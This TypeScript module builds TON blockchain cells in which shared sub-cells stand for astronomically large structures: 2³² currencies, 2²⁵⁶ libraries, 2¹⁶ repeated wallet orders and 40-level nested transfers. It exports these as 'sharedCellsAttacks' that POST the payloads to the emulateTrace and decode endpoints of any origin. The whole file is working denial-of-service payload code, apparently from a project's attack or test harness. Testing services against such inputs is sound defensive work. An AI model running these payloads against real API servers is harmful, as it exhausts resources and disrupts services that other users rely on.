import { beginCell, emptyCell } from "../../src/cell/Builder.ts";
import { writeBoc } from "../../src/cell/boc.ts";
import type { Cell } from "../../src/cell/Cell.ts";
import { sliceOf } from "../../src/cell/Slice.ts";
import { sharedDictionary } from "../cell/sharedDictionary.ts";

/** One request with few cells that represent astronomically many; resolves with the answer. */
export type SharedCellsAttack = (origin: string) => Promise<string>;

const account = (byte: number): Cell =>
  beginCell().storeUint(4, 3).storeInt(0, 8).storeBytes(new Uint8Array(32).fill(byte)).cell();

/** 2³² currencies in 33 cells, of each of which there is 1. */
export const sharedCurrencies = sharedDictionary(
  32,
  beginCell().storeUint(0, 2).storeUint(1, 5).storeUint(1, 8).cell(),
);
/** 2²⁵⁶ public libraries in 258 cells. */
export const sharedLibraries = sharedDictionary(
  256,
  beginCell().storeUint(0, 2).storeBit(true).storeRef(beginCell().storeUint(1, 8).cell()).cell(),
);
/** A chain of empty cells. */
export const emptyChain = (length: number): Cell =>
  length === 0
    ? emptyCell
    : beginCell()
        .storeRef(emptyChain(length - 1))
        .cell();

/** A message from account 1 to account 2 that says what it carries. */
function internalMessage(extra: Cell | undefined, init: Cell | undefined, body: Cell): Cell {
  const builder = beginCell()
    .storeUint(0b0110, 4)
    .storeSlice(sliceOf(account(1)))
    .storeSlice(sliceOf(account(2)));
  builder
    .storeCoins(10n ** 9n)
    .storeMaybeRef(extra)
    .storeCoins(0n)
    .storeCoins(0n)
    .storeBigUint(0n, 96);
  if (init === undefined) builder.storeBit(false);
  else builder.storeUint(0b11, 2).storeRef(init);
  return builder.storeBit(true).storeRef(body).cell();
}

// _ fixed_prefix_length:(Maybe …) special:(Maybe …) code:(Maybe ^Cell) data:(Maybe ^Cell) library:(HashmapE 256
// SimpleLib)
const init = beginCell().storeUint(0, 4).storeMaybeRef(sharedLibraries).cell();

/** A highload wallet's list of 2¹⁶ messages which are all the same one, with a long body. */
export function sharedOrders(): Cell {
  const order = beginCell()
    .storeUint(0, 2)
    .storeUint(1, 8)
    .storeRef(internalMessage(undefined, undefined, beginCell().storeUint(0, 40).storeRef(emptyChain(600)).cell()))
    .cell();
  const builder = beginCell().storeBytes(new Uint8Array(64)).storeUint(1, 32).storeBigUint(1n, 64);
  return builder.storeBit(true).storeRef(sharedDictionary(16, order)).cell();
}

/** A transfer whose two payloads are both a transfer whose two payloads …, 40 levels deep. */
export function sharedTransfers(): Cell {
  let payload = beginCell().storeUint(65, 40).cell();
  for (let level = 0; level < 40; level++) {
    const builder = beginCell().storeUint(0x0f8a7ea5, 32).storeBigUint(1n, 64).storeCoins(1n).storeUint(0, 4);
    payload = builder.storeBit(true).storeRef(payload).storeCoins(1n).storeBit(true).storeRef(payload).cell();
  }
  return payload;
}

const text = (cell: Cell): string => Buffer.from(writeBoc(cell)).toString("base64");

async function post(url: string, body: unknown): Promise<string> {
  const headers = { "content-type": "application/json" };
  const response = await fetch(url, { method: "POST", headers, body: JSON.stringify(body) });
  return response.text();
}

const emulate =
  (message: Cell): SharedCellsAttack =>
  (origin) =>
    post(`${origin}/api/emulate/v1/emulateTrace`, { boc: text(message), with_actions: true });
const decode =
  (body: Cell): SharedCellsAttack =>
  (origin) =>
    post(`${origin}/api/v3/decode`, { bodies: [text(body)] });

export const sharedCellsAttacks: Readonly<Record<string, SharedCellsAttack>> = {
  "a message with 2³² currencies": emulate(internalMessage(sharedCurrencies, undefined, emptyCell)),
  "a message with 2²⁵⁶ libraries": emulate(internalMessage(undefined, init, emptyCell)),
  "a message to decode with 2¹⁶ messages in it": emulate(internalMessage(undefined, undefined, sharedOrders())),
  "a body to decode with 2¹⁶ messages in it": decode(sharedOrders()),
  "a body to decode with 2⁴⁰ transfers in it": decode(sharedTransfers()),
};
